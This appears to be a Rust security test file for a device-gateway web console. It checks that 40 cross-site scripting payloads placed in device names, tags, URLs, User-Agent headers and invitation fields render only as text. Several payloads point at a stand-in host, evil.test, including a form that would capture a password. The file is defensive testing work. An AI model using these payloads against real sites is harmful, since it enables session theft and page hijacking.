//! Threat 21, and CVE-2023-2587 (Teltonika RMS): what devices and gateways say of themselves is text on every page.

use fantoccini::Locator;
use http::Request;
use http::header::{AUTHORIZATION, CONTENT_TYPE, USER_AGENT};
use linkspan_protocol::id::{DeviceName, GatewayName, ServiceName};
use linkspan_tests::parts::Browser;
use linkspan_tests::rig::{PASSWORD, Rig};
use serde_json::{Value, json};

use super::recorder::Recorder;

/// Each would set `window.hit`, leave the page, or show a field, if it were more than text.
const PAYLOADS: [&str; 40] = [
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</ScRiPt>",
    "</title><script>window.hit=1</script>",
    "</p></div></main><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=x onerror='window.hit=1'//",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<body onload=window.hit=1>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=data:text/html,<script>parent.hit=1</script>></object>",
    "<embed src=data:text/html,x>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/>",
    "<form action=https://evil.test/><input name=password id=stolen></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<a href=javascript:window.hit=1 id=stolen>press</a>",
    "\" onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x=\"",
    "' onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x='",
    "\"><script>window.hit=1</script>",
    "'><script>window.hit=1</script>",
    "`-window.hit=1-`",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<!--><script>window.hit=1</script>",
    "<![CDATA[><script>window.hit=1</script>]]>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\u{202e}<script>window.hit=1</script>\u{2028}",
];

async fn is_only_text(browser: &Browser, on: &str) {
    let found = "document.querySelectorAll('script,iframe,object,embed,math,video,audio,marquee,base,img[src=x],#stolen,\
                 meta[http-equiv=refresh],[onload],[onerror],[onfocus],[onmouseover],[ontoggle],[onbegin],[onstart]').length";
    assert_eq!(browser.evaluate("typeof window.hit").await.unwrap(), "undefined", "on {on}");
    assert_eq!(browser.evaluate(found).await.unwrap(), 0, "on {on}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn threat_21_what_devices_say_of_themselves_is_text_on_every_page() {
    let rig = Rig::start().await.unwrap();
    let device = Recorder::start("<p>a device</p>", &[]).await.unwrap();
    let mut config = rig.new_gateway("site12").await.unwrap();
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        let name = format!("dev{number}");
        // As TOML has it between quotes.
        let text = payload.replace('\\', "\\\\").replace('"', "\\\"");
        let tag = text.chars().take(50).collect::<String>();
        let tag = if tag.ends_with('\\') { String::new() } else { tag };
        config = config.device(&name, &text, &[("web", "http", device.address())]);
        config = config.replaced(&format!("name = \"{name}\"\n"), &format!("name = \"{name}\"\ntags = [\"{tag}\"]\n"));
    }
    let _gateway = rig.run_gateway(&config).unwrap();
    let token = rig.sign_in().await.unwrap();
    rig.wait_for_page(&format!("{}/", rig.device("dev39")), &token).await.unwrap();
    let browser = Browser::start(&rig.subfolder("browser").unwrap(), true).await.unwrap();
    browser.open(&format!("{}/", rig.console())).await.unwrap();
    browser.fill("#name", "admin").await.unwrap();
    browser.fill("#password", PASSWORD).await.unwrap();
    browser.click("form button").await.unwrap();
    browser.shows("40 devices, 40 online").await.unwrap();
    is_only_text(&browser, "the list").await;
    let shown = browser.page.find(Locator::Css("main")).await.unwrap().text().await.unwrap();
    for payload in PAYLOADS.into_iter().filter(|payload| payload.is_ascii()) {
        let squeezed = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(squeezed(&shown).contains(&squeezed(payload)), "{payload} is not shown as it is");
    }
    // What was typed, and an address that is none of ours, come back as text too.
    for path in
        ["/?q=%3Cscript%3Ewindow.hit=1%3C/script%3E", "/login?next=%3Csvg%20onload=window.hit=1%3E", "/%3Cscript%3E"]
    {
        browser.open(&format!("{}{path}", rig.console())).await.unwrap();
        is_only_text(&browser, path).await;
    }
    // Nor is what a program calls itself, or what a host writes to a guest, more than text to who reads it.
    for payload in PAYLOADS.into_iter().filter(|payload| payload.is_ascii()) {
        let sign_in = json!({"name": "admin", "password": PASSWORD}).to_string();
        let request = Request::post(format!("{}/api/v1/session", rig.console())).header(USER_AGENT, payload);
        let request = request.header(CONTENT_TYPE, "application/json").body(sign_in.into()).unwrap();
        assert_eq!(rig.https().unwrap().send(request).await.unwrap().status, 200);
    }
    browser.open(&format!("{}/account", rig.console())).await.unwrap();
    browser.shows("<script>window.hit=1</script>").await.unwrap();
    is_only_text(&browser, "the account").await;
    for payload in PAYLOADS.into_iter().step_by(8) {
        let until = (jiff::Timestamp::now() + jiff::SignedDuration::from_hours(1)).to_string();
        let visit = json!({"guest": payload, "reason": payload, "device": "dev0", "service": "web", "until": until});
        let request =
            Request::post(format!("{}/api/v1/visits", rig.console())).header(CONTENT_TYPE, "application/json");
        let request = request.header(AUTHORIZATION, format!("Bearer {token}")).body(visit.to_string().into()).unwrap();
        let made = rig.https().unwrap().send(request).await.unwrap();
        let link: Value = serde_json::from_slice(&made.body).unwrap();
        browser.open(link["link"].as_str().unwrap()).await.unwrap();
        browser.shows("You are invited").await.unwrap();
        is_only_text(&browser, "an invitation").await;
    }
    browser.close().await.unwrap();
}

/// Names of devices, services and gateways are words that can stand in a host's name: no text that does harm is one.
#[test]
fn threat_21_no_name_is_a_text_that_does_harm() {
    for payload in PAYLOADS {
        assert!(payload.parse::<DeviceName>().is_err(), "{payload}");
        assert!(payload.parse::<ServiceName>().is_err(), "{payload}");
        assert!(payload.parse::<GatewayName>().is_err(), "{payload}");
    }
}
